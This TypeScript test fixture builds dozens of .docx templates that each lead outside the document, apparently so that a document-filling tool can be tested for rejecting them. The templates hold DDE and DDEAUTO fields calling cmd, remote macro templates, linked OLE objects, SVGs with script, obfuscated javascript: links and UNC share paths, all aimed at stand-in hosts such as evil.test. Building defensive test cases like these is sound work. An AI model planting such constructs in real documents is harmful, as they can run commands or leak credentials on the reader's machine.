import { anchor, type DocxParts, namespaces, onePixel, paragraph, picture, run, textBox } from "../buildDocx.ts";
import { field } from "./wordMarkup.ts";

const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A text in every outward target of these templates, which no filled .docx may contain. */
export const outwardMark = "evil";

/** A relationship of the body. */
export const relation = (id: string, type: string, target: string, mode = ' TargetMode="External"'): string =>
  `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}"${mode}/>`;

const relationshipsPart = (content: string): string =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${content}</Relationships>`;

const name = paragraph("{姓名}");
const linkTo = (address: string, mode?: string): DocxParts => ({
  body: name + paragraph(`<w:hyperlink r:id="rIdL">${run("看这里")}</w:hyperlink>`),
  relationships: relation("rIdL", "hyperlink", address, mode),
});
const withField = (...code: string[]): DocxParts => ({ body: name + paragraph(field(code, run("结果"))) });
const withPicture = (target: string, blip = 'r:link="rIdP"'): DocxParts => ({
  body: name + paragraph(picture("rIdP").replace('r:embed="rIdP"', blip)),
  relationships: relation("rIdP", "image", target),
});
const object = (inner: string): string =>
  `<w:p><w:r><w:object><v:shape id="o1" style="width:50pt;height:50pt"><v:imagedata r:id="rIdP"/></v:shape>${inner}</w:object></w:r></w:p>`;
const svgPart = (bytes: string | Uint8Array, file = "s.svg"): DocxParts => ({
  body:
    name +
    paragraph(
      picture("rIdP").replace(
        '<a:blip r:embed="rIdP"/>',
        '<a:blip r:embed="rIdP"><a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><s:svgBlip xmlns:s="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdS"/></a:ext></a:extLst></a:blip>',
      ),
    ),
  pictures: { rIdP: { name: "p.png", bytes: onePixel } },
  relationships: relation("rIdS", "image", `media/${file}`, ""),
  parts: {
    [`word/media/${file}`]: bytes,
  },
});
const svgRoot = (content: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">${content}</svg>`;
const svg = (content: string): DocxParts => svgPart(svgRoot(content));
const svgThatLoads = svgRoot('<image xlink:href="https://evil.test/a.png"/>');
const settings = (content: string): DocxParts => ({ body: name, settings: content });

const nestedField =
  '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
  field([" QUOTE 68 68 69 "], run("DDE")) +
  '<w:r><w:instrText> PAGE cmd evil </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
  run("结果") +
  '<w:r><w:fldChar w:fldCharType="end"/></w:r>';

/** A field whose code is completed by an alternative, which each program chooses for itself. */
const alternatives =
  '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:instrText> PAGE </w:instrText></mc:Choice>' +
  "<mc:Fallback><w:instrText> DDEAUTO evil </w:instrText></mc:Fallback></mc:AlternateContent></w:r>" +
  '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';

/** Templates that lead out of their document, by their way of doing so. All of them print {姓名}. */
export const outwardTemplates: Readonly<Record<string, DocxParts>> = {
  "a linked picture": withPicture("https://evil.test/a.png"),
  "a linked picture on a share": withPicture("\\\\evil\\share\\a.png"),
  "an embedded picture that is elsewhere": withPicture("file:///evil/a.png", 'r:embed="rIdP"'),
  "a target in single quotes": {
    body: name,
    relationships: relation("rIdP", "image", "x").replace('"x"', "'https://evil.test/a'"),
  },
  "a server as a target within the package": {
    body: name,
    relationships: relation("rIdP", "image", "//evil/a.png", ""),
  },
  "a scheme as a target within the package": {
    body: name,
    relationships: relation("rIdP", "image", "file:///evil", ""),
  },
  "a mode of another spelling": {
    body: name,
    relationships: relation("rIdP", "image", "evil.png", ' TargetMode="external"'),
  },
  "a hyperlink with a script": linkTo("javascript:evil()"),
  "a hyperlink with a script, written with entities": linkTo("&#106;ava&#x73;cript:alert('evil')"),
  "a hyperlink with a script, cut by a tab": linkTo("java&#9;script:evil()"),
  "a hyperlink to a file": linkTo("file:///C:/evil/a.docx"),
  "a hyperlink to a share": linkTo("\\\\evil\\share\\a.docx"),
  "a hyperlink to a drive": linkTo("C:\\evil\\a.exe"),
  "a hyperlink to another program": linkTo("ms-word:ofe|u|https://evil.test/a.docx"),
  "a hyperlink with a password": linkTo("https://bank.example@evil.test:443/"),
  "a mail with a file": linkTo("mailto:a@example.org?attach=C:/evil"),
  "a hyperlink in a drawing": {
    body:
      name +
      paragraph(
        `<w:r>${anchor("<a:graphicData uri='x'/>").replace('descr=""/>', 'descr=""><a:hlinkClick r:id="rIdL" action="ppaction://program?evil"/></wp:docPr>')}</w:r>`,
      ),
    relationships: relation("rIdL", "hyperlink", "file:///evil"),
  },
  "an address in VML": {
    body: `${name}<w:p><w:r><w:pict><v:shape href="javascript:evil()" style="width:9pt;height:9pt"><v:imagedata src='https://evil.test/a.png' o:href="https://evil.test/b"/><v:fill type="frame" src="&#92;&#92;evil\\a"/></v:shape></w:pict></w:r></w:p>`,
  },
  "a linked object": {
    body: name + object('<o:OLEObject Type="Link" ProgID="Word.Document" r:id="rIdO" UpdateMode="Always"/>'),
    pictures: { rIdP: { name: "p.png", bytes: onePixel } },
    relationships: relation("rIdO", "oleObject", "https://evil.test/a.docx"),
  },
  "an embedded object": {
    body: name + object('<o:OLEObject Type="Embed" ProgID="Package" r:id="rIdO"/>'),
    pictures: { rIdP: { name: "p.png", bytes: onePixel } },
    relationships: relation("rIdO", "oleObject", "embeddings/o.bin", ""),
    parts: { "word/embeddings/o.bin": "moniker https://evil.test" },
  },
  "a control": {
    body: `${name}<w:p><w:r><w:object><w:control r:id="rIdX" w:name="evil"/></w:object></w:r></w:p>`,
    relationships: relation("rIdX", "control", "activeX/x.xml", ""),
    parts: {
      "word/activeX/x.xml": "<ocx evil='1'/>",
      "word/activeX/_rels/x.xml.rels": relationshipsPart(relation("r1", "activeXControlBinary", "x.bin", "")),
      "word/activeX/x.bin": "evil",
    },
  },
  "a chunk of HTML": {
    body: `${name}<w:altChunk r:id="rIdH"/>`,
    relationships: relation("rIdH", "aFChunk", "chunk.html", ""),
    parts: { "word/chunk.html": '<img src="https://evil.test/a.png">' },
  },
  "a chunk elsewhere": {
    body: `${name}<w:altChunk r:id="rIdH"/>`,
    relationships: relation("rIdH", "aFChunk", "https://evil.test/a.html"),
  },
  "a part of a master document": {
    body: `${name}<w:subDoc r:id="rIdD"/>`,
    relationships: relation("rIdD", "subDocument", "file:///evil.docx"),
  },
  "a template elsewhere": {
    body: name,
    settings: '<w:attachedTemplate r:id="rIdT"/>',
    parts: {
      "word/_rels/settings.xml.rels": relationshipsPart(
        relation("rIdT", "attachedTemplate", "https://evil.test/x.dotm"),
      ),
    },
  },
  "a header elsewhere": {
    body: `${name}<w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>`,
    relationships: relation("rIdH", "header", "https://evil.test/h.xml"),
  },
  "frames in the web settings": {
    body: name,
    relationships: relation("rIdW", "webSettings", "webSettings.xml", ""),
    parts: {
      "word/webSettings.xml": `<w:webSettings ${namespaces}><w:frameset><w:frame><w:sourceFileName r:id="rIdF"/></w:frame></w:frameset></w:webSettings>`,
      "word/_rels/webSettings.xml.rels": relationshipsPart(relation("rIdF", "frame", "https://evil.test/f.htm")),
    },
  },
  "a chart with its workbook": {
    body: name,
    relationships: relation("rIdC", "chart", "charts/c.xml", ""),
    parts: {
      "word/charts/c.xml": `<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" ${namespaces}><c:externalData r:id="r1"/></c:chartSpace>`,
      "word/charts/_rels/c.xml.rels": relationshipsPart(relation("r1", "oleObject", "file:///evil.xlsx")),
    },
  },
  "a task pane": {
    body: name,
    parts: {
      "_rels/.rels": relationshipsPart(
        relation("rId1", "officeDocument", "word/document.xml", "") +
          '<Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="word/webextensions/taskpanes.xml"/>',
      ),
      "word/webextensions/taskpanes.xml": "<taskpanes>evil</taskpanes>",
    },
  },
  "a video of the web": {
    body: `${name}<w:p><w:r>${anchor("<a:graphicData uri='x'/>").replace('descr=""/>', 'descr=""><a:extLst><a:ext uri="x"><q:webVideoPr xmlns:q="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;https://evil.test&quot;&gt;"/></a:ext></a:extLst></wp:docPr>')}</w:r></w:p>`,
  },
  "schemas and smart tags elsewhere": settings(
    '<w:attachedSchema w:val="evil"/><w:smartTagType w:url="https://evil.test" w:name="n"/><sl:schemaLibrary xmlns:sl="http://schemas.openxmlformats.org/schemaLibrary/2006/main"><sl:schema sl:manifestLocation="https://evil.test/m"/></sl:schemaLibrary>',
  ),
  "an instruction to a program": {
    body: name,
    parts: { "word/theme/theme1.xml": `<?xml-stylesheet href="https://evil.test/x.xsl"?><a:theme ${namespaces}/>` },
    relationships: relation("rIdT", "theme", "theme/theme1.xml", ""),
  },
  "a part that no relationship names": { body: name, parts: { "word/hidden.bin": "evil" } },
  "an SVG that loads": svg('<image xlink:href="https://evil.test/a.png"/>'),
  "an SVG that loads by its style": svg("<style>rect { fill: url( https://evil.test/a ) }</style>"),
  "an SVG that runs": svg("<script>evil()</script>"),
  "an SVG that sets an address": svg('<use><set attributeName="xlink:href" to="https://evil.test/a.svg#b"/></use>'),
  "an SVG behind a long comment": svgPart(`<!--${" ".repeat(2_000)}-->${svgThatLoads}`),
  "an SVG with a prefixed root": svgPart(
    '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:image href="https://evil.test/a.png"/></s:svg>',
  ),
  "an SVG under another name": svgPart(`<!--${" ".repeat(2_000)}-->${svgThatLoads}`, "s.png"),
  "an SVG in UTF-16 under another name": svgPart(Buffer.from(`\uFEFF${svgThatLoads}`, "utf16le"), "s.png"),
  "an SVG as a part of XML": svgPart(svgThatLoads, "s.xml"),
  DDE: withField(" DDE cmd evil "),
  "DDEAUTO over runs": withField(" DD", "EAU", 'TO c:\\\\windows "/k evil" '),
  "DDEAUTO in small letters": withField(' ddeauto "evil" '),
  "a name in quotes": withField(' "DDEAUTO" evil '),
  "DDE in text instead of code": {
    body:
      name +
      paragraph(
        field([" "], run("结果")).replace("</w:instrText></w:r>", "</w:instrText></w:r><w:r><w:t>DDE evil</w:t></w:r>"),
      ),
  },
  "a name that another field spells": { body: name + paragraph(nestedField) },
  "a code of two alternatives": { body: name + paragraph(alternatives) },
  "a field that never ends": {
    body:
      name + paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE evil</w:instrText></w:r>'),
  },
  "code without a field": { body: name + paragraph("<w:r><w:instrText>DDE evil</w:instrText></w:r>") },
  "a field over paragraphs": {
    body:
      name +
      paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>') +
      paragraph(
        '<w:r><w:instrText>TEXT "https://evil.test"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>',
      ),
  },
  "a field in a text box": { body: name + paragraph(textBox(paragraph(field([" DDE evil "], run("结果"))))) },
  "a field in a header": {
    body: `${name}<w:sectPr><w:headerReference w:type="default" r:id="h"/></w:sectPr>`,
    headers: { h: paragraph(field([" INCLUDETEXT evil "], run("结果"))) },
  },
  INCLUDEPICTURE: withField(' INCLUDEPICTURE "https://evil.test/a.png" \\d '),
  "INCLUDEPICTURE in single quotes": withField(" INCLUDEPICTURE 'https://evil.test/a.png' "),
  LINK: withField(' LINK Excel.Sheet.8 "C:\\\\evil.xlsx" '),
  "a simple field": {
    body:
      name +
      paragraph(`<w:fldSimple w:instr=' INCLUDETEXT "evil" '><w:fldData>evil</w:fldData>${run("结果")}</w:fldSimple>`),
  },
  "HYPERLINK with a script": withField(' HYPERLINK "javascript:evil()" '),
  "HYPERLINK with a file after a switch": withField(' HYPERLINK \\l "place" "file:///evil" '),
  "HYPERLINK in other quotes": withField(" HYPERLINK “file:///evil” "),
  "HYPERLINK of two addresses": withField(' HYPERLINK "https://example.org" "file:///evil" '),
};
